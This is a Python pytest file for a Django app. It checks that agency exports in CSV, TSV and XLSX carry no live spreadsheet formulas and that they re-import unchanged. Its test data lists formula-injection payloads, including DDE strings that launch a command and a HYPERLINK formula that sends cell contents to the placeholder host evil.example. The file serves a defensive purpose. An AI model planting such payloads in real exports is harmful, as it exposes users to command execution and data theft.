"""Exports carry no live formulas: text a spreadsheet program would run (`=…`, `+…`, `-…`,
`@…`) comes out as text in CSV, TSV and XLSX, and imports back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from apps.agencies.models import Agency
from apps.briefings.formats import FORMATS
from apps.briefings.resources import AgencyResource
from tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "\t=1+1",
]
FIELDS = ["abbreviation", "name_en", "name_zh", "slug", "kind"]


@pytest.fixture
def hostile_agencies(db):
    return [
        AgencyFactory(abbreviation=f"X{n}", name_en=formula, name_zh=formula, slug=f"x{n}")
        for n, formula in enumerate(FORMULAS)
    ]


def export(client, file_format):
    index = [f.__name__ for f in FORMATS].index(file_format)
    response = client.post(
        reverse("admin:agencies_agency_export"),
        {"format": str(index), "resource": "0", **{f"agencyresource_{f}": "on" for f in FIELDS}},
    )
    assert response.status_code == 200, response.content[:300]
    return response.content


def cells_of(file_format, content):
    if file_format == "XLSX":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        return [cell.value for cell in cells if isinstance(cell.value, str)]
    dialect = "excel-tab" if file_format == "TSV" else "excel"
    return [value for row in csv.reader(io.StringIO(content.decode()), dialect) for value in row]


@pytest.mark.parametrize("file_format", ["CSV", "TSV", "XLSX"])
def test_exports_carry_no_formula(editor_client, hostile_agencies, file_format):
    values = cells_of(file_format, export(editor_client, file_format))
    assert len([v for v in values if v.startswith("'")]) == 2 * len(FORMULAS)
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("file_format", FORMATS, ids=lambda f: f.__name__)
def test_a_defused_export_imports_back_unchanged(editor_client, editor, hostile_agencies,
                                                 file_format):  # fmt: skip
    content = export(editor_client, file_format.__name__)
    before = list(Agency.objects.order_by("pk").values_list(*FIELDS))

    source = content if file_format().is_binary() else content.decode()
    dataset = file_format().create_dataset(source)
    result = AgencyResource().import_data(dataset, dry_run=False, user=editor)

    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
    assert list(Agency.objects.order_by("pk").values_list(*FIELDS)) == before
